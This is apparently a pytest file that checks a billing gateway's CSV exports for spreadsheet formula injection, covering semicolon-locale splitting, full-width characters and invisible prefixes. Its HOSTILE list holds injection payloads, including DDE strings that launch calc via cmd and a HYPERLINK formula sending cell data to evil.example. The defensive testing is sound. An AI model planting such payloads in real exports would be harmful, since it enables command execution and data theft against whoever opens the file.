"""No CSV the project writes carries a spreadsheet formula from a tenant's or a channel's
text, whichever list separator the spreadsheet that opens it splits on.

A channel user id is any printable text the channel sends (``X-Channel-User-Id``), an app
name any text a workspace member types; both reach the billing team's spreadsheet in the
billing export and the ``/sessions`` CSV. Excel in a locale whose list separator is ``;``
(German, French, ...) opens a ``.csv`` by splitting every line on ``;``: the text after a
``;`` inside one field is a cell of its own there, quoted or not. The rule is
:mod:`meter.usage.csv_text`'s.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import AsyncGenerator
from typing import Any

import pytest

from gateway.admin_api import money_handlers
from gateway.admin_api.report_schemas import SessionOut
from meter.usage.export import SESSION_FIELDS, encode

FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
HOSTILE = [
    "=1+1",
    "@SUM(1+1)",
    "-2+3",
    "+cmd|' /C calc'!A0",
    "bob;=1+1",  # a ;-locale spreadsheet: cell "=1+1"
    "x;=cmd|' /C calc'!A0",
    "x; @SUM(1+1)",
    "x;;+1",
    "x,y;=1+1",  # quoted for the comma; the ;-split still finds the formula
    ' =HYPERLINK("http://evil.example/?"&A1)',  # trimmed by the importer
    'x;"=1+1',  # the ;-cell starts with a quote: unquoted, it is "=1+1..."
    'x; ""@SUM(1+1)',
    "a;b",  # harmless: unchanged
    # Full-width and other compatibility forms: a CJK-locale Excel reads "＝" as "="
    # (as it does when the formula is typed); NFKC names what each one stands for.
    "\uff1d1+1",  # ＝
    "\uff0bcmd|' /C calc'!A0",  # ＋
    "\uff0d2+3",  # －
    "\uff20SUM(1+1)",  # ＠
    "\ufe661+1",  # small equals
    "x;\uff1dcmd|' /C calc'!A0",
    # Blanks other than the space, and invisible characters, that an importer may trim
    # or skip before it reads the cell (a channel user id is printable text, an app name
    # any text: these reach a CSV from both).
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte order mark
    "\x00=1+1",
    "\x0b=1+1",
    "\x0c@SUM(1+1)",
    "x;\u00a0=1+1",
    "x;\u200b\uff0b1",
]


def cells(text: str, delimiter: str) -> list[str]:
    """Every cell a spreadsheet splitting on ``delimiter`` makes of ``text`` (its quoting
    honoured, as Excel's and LibreOffice's importers do)."""
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


def runs(cell: str) -> bool:
    """Whether a spreadsheet may run ``cell`` as a formula: it starts with a formula
    character, in any compatibility form (full-width), after any blanks or invisible
    characters an importer may trim or skip."""
    for ch in cell:
        if unicodedata.normalize("NFKC", ch)[:1] in FORMULA or ch in FORMULA:
            return True
        if not (ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf", "Zs")):
            return False
    return False


def formulas(text: str) -> list[str]:
    return [c for sep in (",", ";") for c in cells(text, sep) if runs(c)]


def session(user: str) -> dict[str, Any]:
    return {
        "workspace_id": "wcsv0001", "app_id": "wcsv0001_app1", "channel": "web",
        "channel_user": user, "billing_session_id": "s1", "product": "automation",
        "start": "2026-11-01T00:00:00Z", "end": "2026-11-01T00:01:00Z", "messages": 2,
        "amount": "0.20",
    }  # fmt: skip


async def records(users: list[str]) -> AsyncGenerator[dict[str, Any], None]:
    for user in users:
        yield session(user)


@pytest.mark.parametrize("user", HOSTILE)
async def test_the_billing_export_carries_no_formula(user: str) -> None:
    text = b"".join([c async for c in encode(records([user]), SESSION_FIELDS, "csv")]).decode()
    assert formulas(text) == []
    [row] = list(csv.DictReader(io.StringIO(text)))
    if not runs(user) and ";" not in user:
        assert row["channel_user"] == user  # text with nothing to defuse is kept as it is


@pytest.mark.parametrize("user", HOSTILE)
def test_the_sessions_csv_carries_no_formula(user: str) -> None:
    item = SessionOut(
        app_id="wcsv0001_app1", channel="web", channel_user=user, billing_session_id="s1",
        start="2026-11-01T00:00:00Z", end="2026-11-01T00:01:00Z", messages=2, amount="0.20",
        open=False,
    )  # fmt: skip
    assert formulas(money_handlers._csv_lines([item], header=True)) == []
